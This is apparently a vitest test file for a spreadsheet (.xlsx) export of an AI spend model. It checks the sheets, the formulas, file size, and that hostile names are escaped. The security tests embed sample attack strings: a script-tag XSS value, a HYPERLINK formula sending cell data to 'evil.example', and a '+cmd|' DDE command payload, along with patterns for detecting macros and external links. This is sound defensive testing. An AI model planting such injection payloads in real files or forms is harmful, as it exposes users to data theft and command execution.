import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { spendWorkbook } from '../evaluate/export/spend-workbook.ts';
import { evaluateSpend } from '../evaluate/spend.ts';
import { WHOLE_BOOK } from '../evaluate/whole-book.ts';
import { BASE_SCENARIO } from '../scenario/base.ts';
import type { Scenario } from '../scenario/schema.ts';
import { workbookPort } from './workbook-file.ts';

const WORDS = { rung: (rung: string) => rung, spendClass: (name: string) => name };

async function filesOf(scenario: Scenario): Promise<Record<string, Uint8Array>> {
  const evaluation = evaluateSpend(scenario, WHOLE_BOOK);
  if (evaluation.status !== 'ok') throw new Error(evaluation.problems[0]?.message);
  const workbook = spendWorkbook({ scenario, evaluation, link: 'https://example.org/', words: WORDS });
  return unzipSync(new Uint8Array(await workbookPort.write(workbook)));
}

describe('the .xlsx file', () => {
  test('has a sheet for every part, formulas with what they come to, frozen heads, and asks to be computed', async () => {
    const files = await filesOf(BASE_SCENARIO);
    const workbook = strFromU8(files['xl/workbook.xml'] ?? new Uint8Array());
    expect([...workbook.matchAll(/<sheet [^>]*name="([^"]+)"/g)].map(([, name]) => name)).toEqual([
      'Summary',
      'Inputs',
      'Bill',
      'Ladder',
      'No cache',
      'Provider default',
      'Best policy',
      'Warehouse',
      'Ceiling',
      'Sources',
    ]);
    expect(workbook).toContain('fullCalcOnLoad="1"');
    const bill = strFromU8(files['xl/worksheets/sheet3.xml'] ?? new Uint8Array());
    expect(bill).toMatch(/<f>SUM\(F4:F\d+\)<\/f><v>\d+\.\d+<\/v>/);
    expect(bill.match(/<f>/g)?.length).toBe(bill.match(/<f>[^<]*<\/f><v>/g)?.length);
    expect(bill).toContain('state="frozen"');
  });

  test('escapes names, and writes them as text', async () => {
    const files = await filesOf({ ...BASE_SCENARIO, name: '<script>alert("x")</script> & =1+1' });
    const all = Object.values(files)
      .map((bytes) => strFromU8(bytes))
      .join('');
    expect(all).not.toContain('<script>');
    expect(strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array())).toContain('&lt;script&gt;');
  });

  test('names of a hostile link are text in every sheet: no formula of theirs, no link to elsewhere, no code', async () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A1)';
    const own = {
      id: 'own/1',
      name: `${evil} own`,
      basedOn: BASE_SCENARIO.offerId,
      discountRatio: 0.1,
      rates: { input: null, output: 20, cacheRead: null, cacheWrite: null },
    };
    const { workload } = BASE_SCENARIO;
    const files = await filesOf({
      ...BASE_SCENARIO,
      name: `${evil} name`,
      offerId: own.id,
      ownOffers: [own],
      workload: { ...workload, roles: workload.roles.map((role) => ({ ...role, name: '+cmd|" /C calc"!A0' })) },
    });
    const texts = new Map(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]));
    const all = [...texts.values()].join('\n');
    // It is there, as text.
    expect(all).toMatch(/evil\.example[^<]* own/);
    expect(all).toMatch(/evil\.example[^<]* name/);
    expect(all).toContain('+cmd|');
    for (const [, formula] of all.matchAll(/<f>([^<]*)<\/f>/g))
      expect(formula).not.toMatch(/HYPERLINK|cmd|evil|WEBSERVICE|\[/);
    expect(
      [...texts.keys()].filter((name) => /externalLink|vba|macro|activeX|embeddings|connections/i.test(name)),
    ).toEqual([]);
    expect(all).not.toMatch(/TargetMode="External"|<hyperlink|<ddeLink|<oleLink/);
  });

  test('packs on the page: no file of the largest workload is so long that a worker is started, which the policy forbids', async () => {
    const [first] = BASE_SCENARIO.workload.roles;
    if (!first) throw new Error('The base has no role');
    const longest = WHOLE_BOOK.offers
      .toSorted((a, b) => (b.periods.at(-1)?.bands.length ?? 0) - (a.periods.at(-1)?.bands.length ?? 0))
      .filter(({ id }) => evaluateSpend({ ...BASE_SCENARIO, offerId: id }, WHOLE_BOOK).status === 'ok')
      .slice(0, 8);
    const roles = longest.map(({ id }, i) => ({ ...first, name: `Role ${i}`, offerId: id, taskPrefixTokens: 90_000 }));
    const files = await filesOf({ ...BASE_SCENARIO, workload: { ...BASE_SCENARIO.workload, roles } });
    const sizes = Object.values(files).map((bytes) => bytes.length);
    // What fflate takes for long.
    expect(Math.max(...sizes)).toBeLessThan(160_000);
  });
});
